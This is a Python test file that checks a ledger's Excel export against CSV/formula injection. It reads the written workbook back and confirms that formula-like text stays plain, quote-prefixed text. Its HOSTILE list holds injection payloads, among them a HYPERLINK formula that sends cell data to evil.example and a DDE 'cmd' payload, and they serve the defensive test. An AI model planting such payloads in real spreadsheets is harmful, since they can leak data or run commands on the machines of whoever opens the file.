"""The ledger workbook never holds a formula: text that looks like one stays text.

A title such as ``=HYPERLINK("http://evil.example","点击")`` typed by anyone who
may assign an item must open in Excel as the words typed, not as a live link or
a formula (CSV/formula injection). Checked by reading the written file back.
"""

from __future__ import annotations

import io

from openpyxl import load_workbook

from node.queries.excel import FIRST_ROW, HEADERS, LedgerRow, workbook_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    "=",
    "-",
    # Full-width signs (an IME's; Excel in some locales takes them as the
    # half-width ones when a cell is edited) and blanks before a sign.
    "＝1+2",
    "＋1",
    "－1",
    "＠SUM(A1:A2)",
    " =1+2",
    "\u3000=1+2",
    "=cmd|' /C calc'!A0",
]
PLAIN = ["整治背街小巷环境", "1+2=3", "a=b", "—"]


def row(text: str) -> LedgerRow:
    return LedgerRow(
        item="14-000001", title=text, board=text, source=text, item_class="general",
        assigner=text, assignee="1401", unit=text, co_units=text, assigned_at=0,
        deadline=86_400_000, status="assigned", progress=0, colour="green",
        latest_feedback=text, overdue=False,
    )


def test_text_that_looks_like_a_formula_stays_text() -> None:
    texts = HOSTILE + PLAIN
    data = workbook_bytes("=HYPERLINK(\"http://evil.example\")", "+info", map(row, texts))
    ws = load_workbook(io.BytesIO(data))["台账"]
    for cell in (ws["A1"], ws["A2"]):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
    assert ws["A1"].value == '=HYPERLINK("http://evil.example")'
    assert ws["A2"].value == "+info"
    for offset, text in enumerate(texts):
        cells = ws[FIRST_ROW + offset]
        by_header = dict(zip(HEADERS, cells, strict=True))
        for header in ("事项名称", "板块", "来源", "交办单位", "责任单位（牵头单位）",
                       "协办单位", "最新反馈"):
            cell = by_header[header]
            assert cell.data_type == "s", (text, header, cell.data_type, cell.value)
            # (XML reads a CR back as LF: the same line break)
            assert cell.value == text.replace("\r", "\n"), (text, header, cell.value)
            # Excel's own mark for text typed after a quote: editing it keeps it text.
            assert cell.quotePrefix == (text in HOSTILE), (text, header)
        assert by_header["序号"].data_type == "n" and by_header["序号"].value == offset + 1
